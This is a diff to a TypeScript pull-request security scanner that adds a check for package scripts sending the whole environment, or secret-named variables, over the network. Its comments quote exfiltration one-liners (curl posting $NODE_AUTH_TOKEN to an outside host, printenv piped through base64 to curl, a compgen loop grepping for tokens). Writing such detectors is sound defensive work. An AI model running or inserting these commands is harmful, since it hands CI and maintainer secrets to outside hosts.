@@ -3,6 +3,8 @@ import { makeFinding } from '../../ecosystems/finding.js';
 import { sendsData, sendsSecretElsewhere } from '../../ecosystems/build-code/behaviors.js';
 import { findPipeToShell, pipeCommandKey } from '../../ecosystems/shell/pipe-to-shell.js';
 import { findRemoteInstalls, remoteInstallFinding } from '../../ecosystems/shell/remote-installs.js';
+import { secretNamedVariablesSent } from '../../ecosystems/shell/secret-named-pick.js';
+import { WHOLE_ENVIRONMENT } from '../../ecosystems/code/sink-rules.js';
 import { redirectedRegistryTokens } from '../../ecosystems/github-actions/secret-rules.js';
 import { lineOf } from '../../ecosystems/util.js';
 import type { ParsedFile } from './parsed-file.js';
@@ -16,7 +18,9 @@ import { readableSides } from './readable-sides.js';
  * `prepublishOnly`) hands a registry's token to another host (`echo "//npm.cdn.dev/:_authToken=$NPM_TOKEN"
  * > .npmrc && npm publish`), which no script of the base handed it to; `suspicious-network-endpoint`:
  * a script the PR adds or changes that sends a token named for one service as data (a body, a form,
- * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`).
+ * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`), or
+ * that sends the whole environment or the variables it picks by a secret's word (`printenv | base64 |
+ * curl -d @- …`, `for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
  */
 export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
   const findings: KeyedFinding[] = [];
@@ -61,6 +65,23 @@ export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
             subject: `script-secret-sent:${name}`,
           }),
         );
+      }
+      // `suspicious-network-endpoint`: a script the PR adds or changes that sends the environment's secrets (`printenv | base64 | curl -d @- …`, the variables it picks by a secret's word and their values: `compgen -e | grep -i token` and `${!v}`).
+      else if (sides.base?.scripts?.[name] !== script) {
+        const picked = secretNamedVariablesSent(script.split('\n')) !== null;
+        if (picked || (sendsData(script, 'shell') && WHOLE_ENVIRONMENT.any?.test(script) === true)) {
+          findings.push(
+            makeFinding({
+              id: 'suspicious-network-endpoint',
+              severity: 'high',
+              title: picked ? `Script "${name}" sends the values of environment variables named like secrets` : `Script "${name}" sends the whole environment`,
+              detail: `${file.path} script "${name}" ${picked ? 'picks the environment variables whose names say token, secret, key or password and sends their values' : 'sends the whole environment (every variable, so every token and secret)'} over the network: whoever runs the script (a CI job, a maintainer's shell) hands over every secret it holds. That is the shape of credential theft (the Shai-Hulud worm and the GhostAction workflows collected secrets so); remove it, and rotate the secrets if it ran.`,
+              path: file.path,
+              line: lineOf(sides.headContent, `"${name}"`),
+              subject: `script-environment-sent:${name}`,
+            }),
+          );
+        }
       }
       // `remote-package-install`: a script that installs a package from a moving git ref or a URL without a hash.
       for (const install of findRemoteInstalls(script)) {
